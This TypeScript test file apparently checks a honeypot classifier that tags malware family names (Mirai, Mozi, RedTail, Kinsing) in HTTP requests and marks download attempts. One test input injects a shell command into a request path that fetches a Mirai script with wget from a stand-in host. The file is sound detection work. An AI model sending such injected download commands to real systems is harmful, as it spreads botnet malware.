// Family-indicator rules name a malware family from a file name; only a download command
// raises an event's intent to malware-download (docs/rules.md, Intent).

import { describe, expect, it } from 'vitest';
import { dissect } from '../protocols/dissect.js';
import { BUILTIN_RULES_DIR, Classifier } from './classifier.js';
import { exampleEvent } from './examples.js';

const classifier = Classifier.load([BUILTIN_RULES_DIR]);

async function classifyHttp(target: string): Promise<ReturnType<Classifier['classify']>> {
  const payload = `GET ${target} HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n`;
  return classifier.classify(await exampleEvent({ port: 80, payload }, dissect));
}

describe('family indicators', () => {
  it('tag a family file name alone without making it a malware download', async () => {
    const result = await classifyHttp('/?q=1&f=mirai.sh');
    expect(result.tags.map((t) => t.id)).toContain('mirai-variant-binary-names');
    expect(result.intent).toBe('other');
  });

  it('leave Mozi, RedTail and Kinsing names alone at intent other', async () => {
    for (const name of ['Mozi.m', 'redtail.x86_64', '/tmp/kinsing']) {
      expect((await classifyHttp(`/?f=${name}`)).intent).toBe('other');
    }
  });

  it('still make a fetch of the family binary a malware download', async () => {
    const result = await classifyHttp('/shell?cd+/tmp;wget+http://198.51.100.82/mirai.sh');
    expect(result.tags.map((t) => t.id)).toContain('mirai-variant-binary-names');
    expect(result.intent).toBe('malware-download');
  });
});
